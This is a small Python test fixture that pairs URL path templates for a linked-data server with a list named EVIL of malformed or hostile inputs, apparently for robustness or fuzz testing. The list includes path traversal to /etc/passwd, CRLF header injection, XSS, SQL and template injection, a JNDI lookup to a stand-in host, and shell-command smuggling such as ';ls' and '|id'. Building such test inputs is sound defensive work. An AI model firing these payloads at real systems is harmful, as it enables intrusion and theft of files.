"""Requests that no honest client sends."""

PATHS = (
    "/id/{}", "/doc/{}", "/doc/report/{}", "/doc/report/{}/2019.ttl", "/dump/report/{}/2019.csv",
    "/dump/report/mohrss/{}", "/dump/version/{}/2019/1.nt", "/dump/{}", "/ldes/{}", "/catalog.{}",
    "/catalog?page={}", "/feed.atom?page={}", "/sitemap-{}.xml", "/static/{}", "/def.{}", "/{}",
    "/doc/year/2019?_profile={}", "/doc/year/2019?_mediatype={}",
    "/doc/year/2019?lang={}", "/sparql?query={}", "/sparql?query=ASK%20%7B%7D&format={}",
    "/sparql?query=ASK%20%7B%7D&default-graph-uri={}", "/.well-known/{}",
)  # fmt: skip
EVIL = (
    "..", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%00", "a%00b",
    "%0d%0aX-Evil:%20yes", "><script>alert(1)</script>", "%3E%20%7D%20%23", "%3C%3E%22%7B%7D",
    "'%20OR%201=1", "a" * 5000, "%F0%9F%92%A9", "%ff%fe", "%E5%85%AC%E5%BC%80", "//evil.example",
    "http://evil.example/", "-1", "0", "99999999999999999999", "1e9", "NaN", "%C2%B2", "{{7*7}}",
    "${jndi:ldap://evil}", "%25s%25n", ";ls", "|id", "%5C..%5C..", "mohrss/2019%20", "mohrss//2019",
)  # fmt: skip
